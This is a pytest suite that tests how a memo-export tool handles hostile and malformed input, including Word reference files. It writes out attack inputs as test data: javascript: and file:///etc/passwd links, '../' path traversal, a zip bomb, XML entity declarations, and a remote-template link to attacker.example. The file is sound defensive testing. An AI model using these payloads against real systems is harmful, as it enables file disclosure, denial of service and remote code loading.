"""Hostile and broken files: a clear message with its place, exit 2, never a traceback,
never a hang, never a dangerous link. One test per case found by trying it."""

from __future__ import annotations

import errno
import io
import os
import shutil
import signal
import zipfile
from contextlib import contextmanager
from pathlib import Path

import docx
import pytest
from pypdf import PdfReader

from briefer.cli import main
from briefer.core import storage
from briefer.core.cards import read_card_file
from briefer.core.memos import Memo, MemoItem, memo_to_yaml, parse_memo
from briefer.core.storage import atomic_write_text, write_failure
from tests.conftest import card_yaml

MEMO = """\
template: one-pager
header: {{subject: "{subject}", from: Office}}
sections:
  bottom-line:
    - text: "{text}"
"""


@contextmanager
def time_limit(seconds: int):
    """A hang becomes a failure instead of a stuck suite."""

    def fail(*_):
        raise AssertionError(f"took longer than {seconds} s")

    old = signal.signal(signal.SIGALRM, fail)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)


def run(capsys, *args: str) -> tuple[int, str, str]:
    with time_limit(60):
        code = main(list(args))
    out, err = capsys.readouterr()
    assert "Traceback" not in err
    return code, out, err


def memo(tmp_path: Path, subject: str = "S", text: str = "Words.") -> Path:
    path = tmp_path / "m.brief.yaml"
    path.write_text(MEMO.format(subject=subject, text=text), encoding="utf-8")
    return path


def templates_copy(tmp_path: Path, repo: Path) -> Path:
    folder = tmp_path / "templates"
    shutil.copytree(repo / "templates", folder)
    return folder


# -- tracebacks that were -------------------------------------------------------------
def test_a_subject_over_255_characters_exports_to_word(capsys, tmp_path):
    out = tmp_path / "m.docx"
    code, _, err = run(capsys, "export", str(memo(tmp_path, "S" * 300)), "-o", str(out))
    assert code == 0, err
    props = docx.Document(str(out)).core_properties
    assert len(props.title) == 255
    assert props.title.endswith("…")


@pytest.mark.parametrize(
    ("url", "why"),
    [
        ("https://example.org/a\x07b", "control characters"),
        ("javascript:alert(1)", "not an http, https or mailto"),
        ("file:///etc/passwd", "not an http, https or mailto"),
        ("pdf:/etc/passwd", "not an http, https or mailto"),
    ],
)
def test_source_links_are_checked(capsys, write, tmp_path, url, why):
    text = "cards:\n" + card_yaml("a").replace(
        "      - title: A source", f'      - title: A source\n        url: "{url}"'
    )
    path = write("lib/a.yaml", text.replace("\x07", "\\a"))
    code, _, err = run(capsys, "validate", str(path))
    assert code == 2
    assert f"{path.name}:9:" in err.replace(str(path.parent) + "/", "")
    assert why in err


def test_a_dangerous_markdown_link_prints_as_text(capsys, write, tmp_path):
    path = write("lib/a.yaml", "cards:\n" + card_yaml("a", body='"See [this](file:///etc/x)."'))
    code, out, err = run(capsys, "validate", str(path))
    assert code == 0
    assert "will print as plain text" in err


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        (
            "  size: 12\n",
            "  size: 63\n",
            "'size' in 'fonts' of template 'one-pager' must be between 8",
        ),
        ("heading_size: 12", "heading_size: 700", "must be between 8 and 24"),
        ("heading: ONE-PAGE BRIEF", "heading: ONE\\x01PAGE", "control characters (U+0001)"),
        ("title: Bottom Line", "title: " + "Long " * 80, "characters long; at most 200"),
        ("page_limit: 1", "page_limit: 100000", "must be 500 or less"),
    ],
)
def test_template_values_are_bounded(capsys, tmp_path, repo, old, new, message):
    folder = templates_copy(tmp_path, repo)
    path = folder / "one-pager.yaml"
    text = path.read_text(encoding="utf-8")
    assert old in text
    new = new.replace("ONE\\x01PAGE", '"ONE\\x01PAGE"')
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    code, _, err = run(capsys, "templates", "--templates", str(folder))
    assert code == 2
    assert "one-pager.yaml:" in err
    assert message in err


def _reference(tmp_path: Path, edit) -> Path:  # noqa: ANN001
    """A Word file saved the way Word sometimes saves it, changed by ``edit``."""
    document = docx.Document()
    document.add_paragraph("Letterhead body (dropped)")
    edit(document)
    path = tmp_path / "ref.docx"
    document.save(str(path))
    return path


def _drop_style(name: str):
    def edit(document):  # noqa: ANN001, ANN202
        element = document.styles[name].element
        element.getparent().remove(element)

    return edit


def _character_header(document) -> None:  # noqa: ANN001
    document.styles["Header"].element.set(
        "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}type", "character"
    )


def _no_sectpr(document) -> None:  # noqa: ANN001
    body = document.element.body
    body.remove(body.sectPr)


def _odd_page_set_up(document) -> None:  # noqa: ANN001
    sect = document.element.body.sectPr
    w = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    sect.find(f"{w}pgSz").set(f"{w}w", "inf")
    sect.find(f"{w}pgSz").set(f"{w}h", "nan")
    sect.find(f"{w}pgMar").set(f"{w}left", "-99999999999999999999")
    sect.find(f"{w}pgMar").set(f"{w}top", "abc")


@pytest.mark.parametrize(
    "edit",
    [_drop_style("Header"), _drop_style("Footer"), _character_header, _no_sectpr, _odd_page_set_up],
    ids=[
        "no Header style",
        "no Footer style",
        "Header a character style",
        "no sectPr",
        "page set-up of inf, nan and garbage",
    ],
)
def test_reference_documents_word_saves(capsys, tmp_path, repo, edit):
    reference = _reference(tmp_path, edit)
    out = tmp_path / "out.docx"
    memo_path = repo / "content" / "memos" / "state-of-play.brief.yaml"
    code, _, err = run(
        capsys, "export", str(memo_path), "-o", str(out), "--reference-docx", str(reference)
    )
    assert code == 0, err
    pdf = tmp_path / "out.pdf"
    code, _, err = run(
        capsys, "export", str(memo_path), "-o", str(pdf), "--reference-docx", str(reference)
    )
    assert code == 0, (
        err
    )  # the PDF takes what it can of the page set-up, the rest from the template
    result = docx.Document(str(out))
    footer = result.sections[0].footer._element.xml
    assert "PAGE" in footer
    assert "UNCLASSIFIED" in result.sections[0].header.paragraphs[0].text
    assert "Letterhead body" not in "\n".join(p.text for p in result.paragraphs)


def test_a_thousand_nested_folders(capsys, tmp_path):
    folder = deep = tmp_path / "lib"
    folder.mkdir()
    for _ in range(1000):  # Path.mkdir(parents=True) itself recurses
        deep = deep / "d"
        deep.mkdir()
    (deep / "a.yaml").write_text("cards:\n" + card_yaml("deep-card"), encoding="utf-8")
    try:
        code, _, err = run(capsys, "cards", "--library", str(folder))
        assert code == 0, err
        assert "1 card\n" in err
    finally:  # pytest's own clean-up of old temp folders would recurse 1000 deep
        (deep / "a.yaml").unlink()
        while deep != folder:
            deep.rmdir()
            deep = deep.parent


# -- hangs and runaway cost -----------------------------------------------------------
def test_a_huge_paragraph_exports_whole(capsys, tmp_path):
    words = " ".join(f"w{i}" for i in range(60000))  # about 400,000 characters
    path = memo(tmp_path, text=words + " THE-END")
    out = tmp_path / "m.pdf"
    code, _, err = run(capsys, "export", str(path), "-o", str(out))
    assert code == 0, err
    text = "".join(page.extract_text() for page in PdfReader(str(out)).pages)
    assert "w59999" in text
    assert "THE-END" in text


def test_deep_flow_nesting_is_refused_at_once(capsys, tmp_path):
    path = tmp_path / "deep.yaml"
    path.write_text("cards: " + "[" * 400_000, encoding="utf-8")
    code, _, err = run(capsys, "validate", str(path))
    assert code == 2
    assert "deep.yaml:1:" in err
    assert "nested more than 64 levels" in err


@pytest.mark.parametrize("where", ["memo", "library", "templates"])
def test_a_fifo_is_refused_not_waited_on(capsys, tmp_path, repo, where):
    if where == "memo":
        fifo = tmp_path / "m.brief.yaml"
        os.mkfifo(fifo)
        code, _, err = run(capsys, "validate", str(fifo))
    elif where == "library":
        shutil.copytree(repo / "content", tmp_path / "lib")
        fifo = tmp_path / "lib" / "pipe.yaml"
        os.mkfifo(fifo)
        code, _, err = run(capsys, "validate", "--library", str(tmp_path / "lib"))
    else:
        folder = templates_copy(tmp_path, repo)
        fifo = folder / "pipe.yaml"
        os.mkfifo(fifo)
        code, _, err = run(capsys, "templates", "--templates", str(folder))
    assert code == 2
    assert "pipe.yaml:1:1: not a regular file" in err or "m.brief.yaml:1:1: not a regular" in err


def test_a_folder_named_like_a_memo_is_said_to_be_a_folder(capsys, tmp_path):
    folder = tmp_path / "trip.brief.yaml"
    folder.mkdir()
    code, _, err = run(capsys, "check", str(folder))
    assert code == 2
    assert "trip.brief.yaml:1:1: a folder, not a file: choose a file inside it" in err
    assert "pipe" not in err


def _zip(path: Path, parts: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def _docx_parts(tmp_path: Path) -> dict[str, bytes]:
    base = tmp_path / "base.docx"
    docx.Document().save(str(base))
    with zipfile.ZipFile(base) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_a_zip_bomb_reference_is_refused(capsys, tmp_path, repo):
    parts = _docx_parts(tmp_path)
    parts["word/media/image1.png"] = b"\0" * (60 * 1024 * 1024)
    reference = _zip(tmp_path / "bomb.docx", parts)
    assert reference.stat().st_size < 1024 * 1024
    memo_path = repo / "content" / "memos" / "state-of-play.brief.yaml"
    code, _, err = run(
        capsys, "export", str(memo_path), "-o", str(tmp_path / "o.docx"),
        "--reference-docx", str(reference),
    )  # fmt: skip
    assert code == 2
    assert "bomb.docx cannot be used: it unpacks to" in err


# -- dangerous or wrong output --------------------------------------------------------
def test_a_reference_passes_nothing_of_its_own(capsys, tmp_path, repo):
    parts = _docx_parts(tmp_path)
    w = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts["word/comments.xml"] = b'<?xml version="1.0"?><w:comments xmlns:w="x"/>'
    parts["docProps/thumbnail.jpeg"] = b"\xff\xd8thumbnail"
    parts["customXml/item1.xml"] = b"<secret>customer data</secret>"
    settings = parts["word/settings.xml"].decode()
    assert 'xmlns:r="' in settings
    settings = settings.replace("<w:zoom", '<w:attachedTemplate r:id="rIdT"/><w:zoom', 1)
    parts["word/settings.xml"] = settings.encode()
    parts["word/_rels/settings.xml.rels"] = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        f'2006/relationships"><Relationship Id="rIdT" Type="{w}/attachedTemplate" '
        'Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    reference = _zip(tmp_path / "ref.docx", parts)
    out = tmp_path / "o.docx"
    memo_path = repo / "content" / "memos" / "state-of-play.brief.yaml"
    code, _, err = run(
        capsys, "export", str(memo_path), "-o", str(out), "--reference-docx", str(reference)
    )
    assert code == 0, err
    with zipfile.ZipFile(out) as archive:
        names = archive.namelist()
        everything = b"".join(archive.read(n) for n in names)
    assert not [n for n in names if "comments" in n or "thumbnail" in n or "customXml" in n]
    assert b"attacker.example" not in everything
    assert b"attachedTemplate" not in everything


def test_a_reference_with_xml_entities_is_refused(capsys, tmp_path, repo):
    parts = _docx_parts(tmp_path)
    name = next(n for n in parts if n.startswith("word/styles"))
    parts[name] = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "boom">]>' + parts[name][38:]
    reference = _zip(tmp_path / "ent.docx", parts)
    memo_path = repo / "content" / "memos" / "state-of-play.brief.yaml"
    code, _, err = run(
        capsys, "export", str(memo_path), "-o", str(tmp_path / "o.docx"),
        "--reference-docx", str(reference),
    )  # fmt: skip
    assert code == 2
    assert "declares XML entities" in err
    assert not (tmp_path / "o.docx").exists()


@pytest.mark.parametrize("target", ["../../../../etc/passwd", "/etc/passwd"])
def test_reference_paths_stay_in_the_template_folder(capsys, tmp_path, repo, target):
    folder = templates_copy(tmp_path, repo)
    path = folder / "one-pager.yaml"
    path.write_text(
        path.read_text(encoding="utf-8") + f"reference_docx: {target}\n", encoding="utf-8"
    )
    code, _, err = run(capsys, "templates", "--templates", str(folder))
    assert code == 2
    assert "must name a file in the template's own folder" in err


# -- wrong or missing messages --------------------------------------------------------
def test_an_unreadable_subfolder_is_reported(capsys, tmp_path, repo, monkeypatch):
    shutil.copytree(repo / "content", tmp_path / "lib")
    locked = tmp_path / "lib" / "locked"
    locked.mkdir()
    real = os.scandir

    def scandir(path):  # noqa: ANN001, ANN202 - root may read anything: pretend it may not
        if Path(path) == locked:
            raise PermissionError(errno.EACCES, "Permission denied")
        return real(path)

    monkeypatch.setattr(storage.os, "scandir", scandir)
    code, _, err = run(capsys, "validate", "--library", str(tmp_path / "lib"))
    assert code == 2
    assert "locked:1:1: cannot read this folder (Permission denied)" in err


def test_an_invalid_card_in_a_memo_is_named_as_invalid(capsys, write, tmp_path):
    write("lib/a.yaml", "cards:\n" + card_yaml("good") + card_yaml("bad", kind="rumour"))
    path = write(
        "m.brief.yaml",
        "template: one-pager\nsections:\n  bottom-line:\n    - card: bad\n",
    )
    code, _, err = run(
        capsys,
        "export",
        str(path),
        "-o",
        str(tmp_path / "o.pdf"),
        "--library",
        str(tmp_path / "lib"),
    )
    assert code == 2
    assert "m.brief.yaml:4:" in err
    assert "card 'bad' in section 'bottom-line' is invalid" in err
    assert "unknown kind 'rumour'" in err


def test_a_full_backups_disk_is_named(tmp_path, monkeypatch):
    target = tmp_path / "m.brief.yaml"
    target.write_text("old", encoding="utf-8")
    storage.configure_backups(tmp_path / "backups")

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(storage.shutil, "copy2", full)
    with pytest.raises(storage.BackupFailed) as caught:
        atomic_write_text(target, "new")
    message = write_failure(caught.value)
    assert "backups folder" in message
    assert "No space left" in message
    assert target.read_text(encoding="utf-8") == "old"


def test_strictness_only_where_words_would_be_lost(write):
    text = "cards:\n" + card_yaml("no-review").replace('    reviewed: "2026-11-22"\n', "")
    text += card_yaml("tp", kind="talking-point", body='""')
    cards, problems = read_card_file(write("a.yaml", text))
    assert [c.id for c in cards] == ["no-review", "tp"]
    assert {p.severity for p in problems} == {"warning"}
    assert any("never reviewed" in p.message for p in problems)
    assert any("only its title will print" in p.message for p in problems)


# -- silent content changes -----------------------------------------------------------
@pytest.mark.parametrize(
    "text",
    [">" * 120 + " deep words", "\n".join("  " * i + f"- level{i}" for i in range(14))],
    ids=["quotes 120 deep", "list 14 deep"],
)
def test_deep_markdown_is_flattened_not_dropped(capsys, tmp_path, text):
    item = text.replace("\n", "\n        ")
    path = tmp_path / "m.brief.yaml"
    path.write_text(
        f"template: one-pager\nsections:\n  bottom-line:\n    - text: |\n        {item}\n",
        encoding="utf-8",
    )
    for suffix in (".pdf", ".docx"):
        out = tmp_path / f"o{suffix}"
        code, _, err = run(capsys, "export", str(path), "-o", str(out))
        assert code == 0, err
        assert "warning:" in err
        if suffix == ".pdf":
            shown = "".join(p.extract_text() for p in PdfReader(str(out)).pages)
        else:
            shown = "\n".join(p.text for p in docx.Document(str(out)).paragraphs)
        for word in ("deep words",) if "deep" in text else ("level0", "level13"):
            assert word in shown


def test_line_separators_survive_a_save():
    text = "before\x85after\u2028line\u2029para"
    saved = memo_to_yaml(Memo("one-pager", sections={"s": [MemoItem(text=text)]}))
    again, _ = parse_memo(saved)
    assert again is not None
    assert again.sections["s"][0].text == text


def test_temporary_files_of_a_killed_export_are_swept(capsys, tmp_path):
    out = tmp_path / "o.pdf"
    stale = tmp_path / ".o.pdf.999999999-abc.tmp"  # no such process
    stale.write_bytes(b"")
    alive = tmp_path / f".o.pdf.{os.getpid()}-xyz.tmp"  # a write in progress: kept
    alive.write_bytes(b"")
    code, _, err = run(capsys, "export", str(memo(tmp_path)), "-o", str(out))
    assert code == 0, err
    assert not stale.exists()
    assert alive.exists()
    assert io.BytesIO(out.read_bytes()).getvalue().startswith(b"%PDF")


def test_duplicate_ids_are_reported_even_when_both_cards_are_broken(capsys, write):
    text = "cards:\n" + card_yaml("same", kind="rumour") + card_yaml("same", title='""')
    path = write("lib/a.yaml", text)
    code, _, err = run(capsys, "validate", str(path))
    assert code == 2
    assert "unknown kind 'rumour'" in err
    assert "duplicate card id 'same': already used at line 2 of this file" in err
